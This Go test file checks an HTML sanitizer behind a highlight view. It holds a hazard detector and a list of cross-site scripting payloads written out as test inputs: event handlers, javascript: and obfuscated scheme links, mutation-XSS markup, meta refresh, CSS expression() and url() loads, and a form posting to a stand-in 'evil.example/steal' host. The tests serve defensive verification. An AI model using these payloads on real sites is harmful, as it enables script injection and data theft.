package page

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// hazard is the first thing in the document doc that would run, load or
// redirect when a browser opens it, described, or "". It reads the tree as
// a browser would build it from the bytes, independently of sanitize's
// allowlists: any on* attribute; an element that runs, embeds or redirects
// (script, iframe, frame, object, embed, base, link, meta http-equiv,
// anything in the SVG or MathML namespace); an attribute that loads
// (src, srcset, srcdoc, action, formaction, background, poster, ping);
// a URL attribute whose scheme is not http or https; CSS that loads.
func hazard(doc *html.Node) string {
	var found string
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if found != "" {
			return
		}
		if n.Type == html.ElementNode {
			found = elementHazard(n)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return found
}

func elementHazard(n *html.Node) string {
	if n.Namespace != "" {
		return fmt.Sprintf("<%s:%s>", n.Namespace, n.Data)
	}
	switch n.DataAtom {
	case atom.Script, atom.Iframe, atom.Frame, atom.Object, atom.Embed, atom.Base, atom.Link, atom.Applet:
		return "<" + n.Data + ">"
	case atom.Meta:
		for _, a := range n.Attr {
			if a.Key == "http-equiv" {
				return fmt.Sprintf("<meta http-equiv=%q>", a.Val)
			}
		}
	case atom.Style:
		if c := n.FirstChild; c != nil && cssLoads(c.Data) {
			return fmt.Sprintf("<style>%s", c.Data)
		}
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		switch {
		case strings.HasPrefix(key, "on"):
			return fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val)
		case key == "src" || key == "srcset" || key == "srcdoc" || key == "action" || key == "formaction" ||
			key == "background" || key == "poster" || key == "ping" || key == "dynsrc" || key == "lowsrc":
			return fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val)
		case key == "href" || key == "xlink:href" || a.Namespace == "xlink" || key == "cite" || key == "data":
			if s := urlScheme(a.Val); s != "" && s != "http" && s != "https" {
				return fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		case key == "style" && cssLoads(a.Val):
			return fmt.Sprintf("<%s style=%q>", n.Data, a.Val)
		}
	}
	return ""
}

// urlScheme is the scheme a browser reads in u, lower-cased, or "" for a
// relative URL: WHATWG URL parsing strips leading and trailing C0 controls
// and spaces and removes tabs and newlines anywhere.
func urlScheme(u string) string {
	u = strings.TrimFunc(u, func(r rune) bool { return r <= ' ' })
	u = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, u)
	for i, c := range u {
		switch {
		case c == ':' && i > 0:
			return strings.ToLower(u[:i])
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z':
		case i > 0 && (c >= '0' && c <= '9' || c == '+' || c == '-' || c == '.'):
		default:
			return ""
		}
	}
	return ""
}

// cssLoads reports whether the CSS css names a way to load or run
// something: url(, image-set(, @import, expression(, or a backslash escape
// that could spell one of them.
func cssLoads(css string) bool {
	s := strings.ToLower(css)
	for _, bad := range []string{"url(", "image-set(", "@import", "expression(", `\`, "src("} {
		if strings.Contains(s, bad) {
			return true
		}
	}
	return false
}

// highlightOf highlights in with a data-block attribute on every block.
func highlightOf(t testing.TB, in string) []byte {
	t.Helper()
	out, err := Highlight([]byte(in), Options{}, func(block int) []html.Attribute {
		return []html.Attribute{{Key: "data-block", Val: fmt.Sprint(block)}, {Key: "style", Val: "background:#c8f7c5"}}
	})
	if err != nil {
		t.Fatalf("Highlight(%q): %v", in, err)
	}
	return out
}

// TestHighlightIsInert checks each kind of attack that a page can carry
// into the highlight view: the view keeps the page's text and loses the
// attack, read back as a browser would parse it.
func TestHighlightIsInert(t *testing.T) {
	const text = "The council approved the new budget on Tuesday evening."
	for _, tc := range []struct {
		name, page string
		gone       []string // what must not be in the output, lower-cased
	}{
		{"img onerror", `<p>` + text + `<img src=x onerror="alert(1)"></p>`, []string{"onerror", "alert"}},
		{"body onload", `<body onload="alert(1)"><p>` + text + `</p></body>`, []string{"onload", "alert"}},
		{"svg onload", `<p>` + text + `</p><svg onload="alert(1)"><circle r="4"/></svg>`, []string{"onload", "alert", "<svg"}},
		{"svg script", `<p>` + text + `</p><svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a></svg>`, []string{"alert", "<svg", "javascript"}},
		{"math mutation", `<p>` + text + `</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, []string{"onerror", "alert", "<math"}},
		{"javascript link", `<p><a href="javascript:alert(1)">` + text + `</a></p>`, []string{"javascript", "alert"}},
		{"obfuscated javascript link", `<p><a href=" &#x01;JaVa&#09;ScRiPt&colon;alert(1)">` + text + `</a></p>`, []string{"script:", "alert"}},
		{"vbscript and data links", `<p><a href="vbscript:msgbox(1)">` + text + `</a><a href="data:text/html,<script>alert(1)</script>">d</a></p>`, []string{"vbscript", "data:", "alert"}},
		{"formaction", `<form action="https://evil.example/steal"><p>` + text + `</p><button formaction="javascript:alert(1)">Go</button><input type=image src=https://evil.example/i.gif formaction=x></form>`, []string{"action", "alert", "evil.example"}},
		{"meta refresh", `<head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><p>` + text + `</p>`, []string{"refresh", "evil.example"}},
		{"base href", `<head><base href="https://evil.example/"></head><p><a href="/x">` + text + `</a></p>`, []string{"<base", "evil.example"}},
		{"external stylesheet", `<head><link rel="stylesheet" href="https://evil.example/s.css"><style>@import url(https://evil.example/i.css); p{color:red}</style></head><p>` + text + `</p>`, []string{"<link", "@import", "evil.example"}},
		{"css loads", `<style>body{background:url(https://evil.example/bg.gif)}</style><p style="background-image:url(https://evil.example/p.gif)">` + text + `</p><p style="width:expression(alert(1))">more of it</p><div style="background:image-set('https://evil.example/s.png' 1x)">x</div><p style="b\61ckground:u\72l(https://evil.example/e.gif)">esc</p>`, []string{"url(", "expression", "alert", "evil.example"}},
		{"tracking pixel", `<p>` + text + `</p><img src="https://evil.example/pixel.gif?u=1" width="1" height="1" alt=""><picture><source srcset="https://evil.example/a.webp"><img srcset="https://evil.example/b.png 2x" alt="chart"></picture>`, []string{"evil.example", "src"}},
		{"frames and plugins", `<p>` + text + `</p><iframe src="https://evil.example/f"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf"><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>`, []string{"evil.example", "alert", "srcdoc"}},
		{"event handlers anywhere", `<div onclick="alert(1)" onmouseover="alert(2)"><p onfocus="alert(3)" tabindex=1 autofocus>` + text + `</p><details open ontoggle="alert(4)"><summary>s</summary></details><x-widget onpointerenter="alert(5)">custom</x-widget></div>`, []string{"alert", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "autofocus"}},
		{"template and noscript", `<p>` + text + `</p><template><img src=x onerror=alert(1)></template><noscript><img src=x onerror=alert(2)></noscript>`, []string{"alert", "onerror"}},
		{"meta names", `<head><meta name="apple-itunes-app" content="app-id=1"><meta name="referrer" content="unsafe-url"></head><p>` + text + `</p>`, []string{"itunes", "referrer"}},
		{"iso-2022-jp escapes", "<p>" + text + "\x1b$B\x1b(J</p><p title=\"a\x1b$@b\">x</p>", []string{"\x1b"}},
		{"comments", `<p>` + text + `</p><!--[if IE]><script>alert(1)</script><![endif]-->`, []string{"alert", "<!--"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := highlightOf(t, tc.page)
			doc, err := html.Parse(bytes.NewReader(out))
			if err != nil {
				t.Fatal(err)
			}
			if h := hazard(doc); h != "" {
				t.Errorf("the view keeps %s:\n%s", h, out)
			}
			low := strings.ToLower(string(out))
			for _, g := range tc.gone {
				if strings.Contains(low, g) {
					t.Errorf("the view has %q:\n%s", g, out)
				}
			}
			if !strings.Contains(string(out), text) {
				t.Errorf("the view lost the page's text:\n%s", out)
			}
		})
	}
}

// TestHighlightKeepsThePage checks what sanitizing keeps: structure,
// inline styles that load nothing, http(s) and relative links, image alt
// text, the spans' attributes, and the text of unwrapped unknown
// elements.
func TestHighlightKeepsThePage(t *testing.T) {
	out := string(highlightOf(t, `<html lang="en"><head><meta name="viewport" content="width=device-width"><title>T</title>
<style>p { color: rgb(10, 20, 30); } .x:not(.y) { margin: calc(1em + 2px) }</style></head>
<body class="page"><main id="m"><h1 style="color:red">Headline</h1>
<p>See <a href="https://example.com/a?b=1#c">this</a>, <a href="/rel">that</a> and <a href="#top">top</a>.</p>
<x-card><p>Custom element text.</p></x-card><form><p>Form text.</p></form>
<img src="a.png" alt="A chart" width="40">
<table><tr><td colspan="2" onclick="x()">cell</td></tr></table></main></body></html>`))
	for _, want := range []string{
		`<html lang="en"><head><meta charset="utf-8"/><meta name="viewport" content="width=device-width"/><title>T</title>`,
		`<style>p { color: rgb(10, 20, 30); } .x:not(.y) { margin: calc(1em + 2px) }</style>`,
		`<body class="page"><main id="m"><h1 style="color:red">`,
		`<a href="https://example.com/a?b=1#c">`, `<a href="/rel">`, `<a href="#top">`,
		`Custom element text.`, `Form text.`,
		`<img alt="A chart" width="40"/>`,
		`<td colspan="2">`,
		`data-block="0" style="background:#c8f7c5"`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("view lacks %q:\n%s", want, out)
		}
	}
	for _, gone := range []string{"<x-card", "<form", "onclick", "a.png"} {
		if strings.Contains(out, gone) {
			t.Errorf("view has %q:\n%s", gone, out)
		}
	}
}

func TestSafeURL(t *testing.T) {
	for _, tc := range []struct {
		url  string
		safe bool
	}{
		{"https://example.com/", true},
		{"HTTP://example.com/", true},
		{"/a/b?c=d", true},
		{"a/b:c", true},
		{"?q=a:b", true},
		{"#frag", true},
		{"", true},
		{"javascript:alert(1)", false},
		{" \x01javascript:alert(1)", false},
		{"java\tscript:alert(1)", false},
		{"java\nscript:alert(1)", false},
		{"JAVASCRIPT:alert(1)", false},
		{"vbscript:x", false},
		{"data:text/html,x", false},
		{"mailto:a@b.c", false},
		{"file:///etc/passwd", false},
		{"//evil.example/x", false},
		{`\\evil.example\share`, false},
		{`/\evil.example`, false},
	} {
		if got := safeURL(tc.url); got != tc.safe {
			t.Errorf("safeURL(%q) = %v, want %v", tc.url, got, tc.safe)
		}
	}
}

func TestSafeCSS(t *testing.T) {
	for _, tc := range []struct {
		css  string
		safe bool
	}{
		{"color:red;background:#fff", true},
		{"color: RGB(1,2,3); width: calc(100% - 2em)", true},
		{"@media (max-width: 600px) { p { margin: 0 } }", true},
		{"background:url(x.png)", false},
		{"background:URL( 'x.png' )", false},
		{"background:image-set('x.png' 1x)", false},
		{"background:-webkit-image-set('x.png' 1x)", false},
		{"@import 'x.css';", false},
		{"width:expression(alert(1))", false},
		{"behavior:url(x.htc)", false},
		{"-moz-binding:url(x.xml#y)", false},
		{`background:u\72l(x.png)`, false},
		{"src: local(Arial)", false},
		{"background:ürl(x)", false},
	} {
		if got := safeCSS(tc.css); got != tc.safe {
			t.Errorf("safeCSS(%q) = %v, want %v", tc.css, got, tc.safe)
		}
	}
}
